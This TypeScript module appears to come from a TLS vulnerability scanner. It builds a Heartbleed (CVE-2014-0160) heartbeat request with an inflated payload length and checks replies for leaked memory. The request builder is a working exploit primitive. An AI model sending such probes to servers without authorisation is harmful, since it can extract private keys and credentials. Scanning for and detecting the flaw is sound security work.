// The heartbeat request of RFC 6520 §4, as a Heartbleed probe sends it (CVE-2014-0160).
import { ByteWriter } from './bytes.ts';
import { contentTypes } from './constants.ts';

/**
 * A HeartbeatMessage record of type heartbeat_request whose payload_length claims `claimedLength`
 * bytes while `payload` (usually empty) is all that is sent. RFC 6520 §4 tells a receiver to
 * discard such a message silently; a server with the Heartbleed bug answers with
 * `claimedLength` bytes of its memory instead. Sent before the handshake finishes, the record is
 * unprotected, as testssl.sh and the original proof of concept send it.
 */
export function heartbeatRequest(
  recordVersion: number,
  claimedLength: number,
  payload: Uint8Array = new Uint8Array(0),
): Uint8Array {
  const message = new ByteWriter()
    .u8(1) // heartbeat_request
    .u16(claimedLength)
    .bytes(payload)
    .finish();
  return new ByteWriter()
    .u8(contentTypes.heartbeat)
    .u16(recordVersion)
    .u16(message.length)
    .bytes(message)
    .finish();
}

/**
 * Whether a heartbeat record the server sent back betrays Heartbleed: a response longer than
 * the request's 3-byte header plus its payload and the 16 bytes of padding RFC 6520 §4 requires
 * means the server copied memory it was never sent.
 */
export function heartbeatLeaks(fragment: Uint8Array, sentPayloadLength: number): boolean {
  return fragment[0] === 2 && fragment.length > 3 + sentPayloadLength + 16;
}
